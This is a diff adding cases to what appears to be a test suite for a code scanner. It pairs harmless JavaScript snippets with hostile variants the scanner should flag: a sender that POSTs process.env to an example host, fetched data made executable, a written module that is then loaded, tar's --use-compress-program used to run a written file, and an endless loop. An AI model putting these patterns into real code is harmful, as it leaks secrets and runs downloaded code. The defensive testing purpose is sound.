@@ -483,3 +483,33 @@ row(1, False, "a harmless command that another module exports", {"lib/texts.js":
 OLD_STYLE = "function Sender() { this.list = []; }\nSender.prototype.note = function (x) { this.list.push(x); };\nSender.prototype.flush = function () { fetch('https://in.widget.example/u', { method: 'POST', body: JSON.stringify(this.list) }); };\nconst s = new Sender();\ns.note(%s);\ns.flush();\n"
 fires(3, "methods of a prototype keep it and send it", OLD_STYLE % "process.env", least="review")
 innocent(3, "methods of a prototype keep and send a number", OLD_STYLE % "2")
+
+# ---- data that is kept is not run -------------------------------------------------------------------
+
+KEEPS = """exports.prices = async function (dir) {
+  const fs = require('fs');
+  const file = require('path').join(dir, 'prices-2.json');
+  const r = await fetch('https://data.widget.example/prices');
+  fs.writeFileSync(file, JSON.stringify(await r.json()));
+  fs.chmodSync(file, %s);
+};
+"""
+innocent(1, "what was fetched is kept from others", KEEPS % "0o600")
+fires(1, "what was fetched is made a program", KEEPS % "0o700")
+BUMPS = """const fs = require('fs');
+fs.writeFileSync('./tool.%s', JSON.stringify({ name: 'sample-tool' }));
+exports.tool = require('./tool.%s');
+"""
+innocent(10, "data that was written is loaded", BUMPS % ("json", "json"))
+fires(10, "a module that was written is loaded", BUMPS % ("js", "js"))
+PACKS = """exports.pack = function (dir, name) {
+  const file = require('path').join(dir, name + '.skill');
+  require('fs').writeFileSync(file, 'PK');
+  return require('child_process').spawnSync('tar', ['-a', '-c', %s, '-f', file, '.']);
+};
+"""
+innocent(10, "what is written is filled by an archiver", PACKS % "'--format=zip'")
+fires(10, "an archiver starts what was written", PACKS % "'--use-compress-program=' + file")
+SCANS = "const wide = { 32: 1 };\nexports.blanks = function (s) {\n  let n = 0;\n  for (let i = 0; %s; i++) n++;\n  return n;\n};\n"
+innocent(45, "a loop that ends with a text", SCANS % "i < s.length && wide[32]")
+fires(45, "a loop without an end", SCANS % "i < Infinity && true || wide[32]")
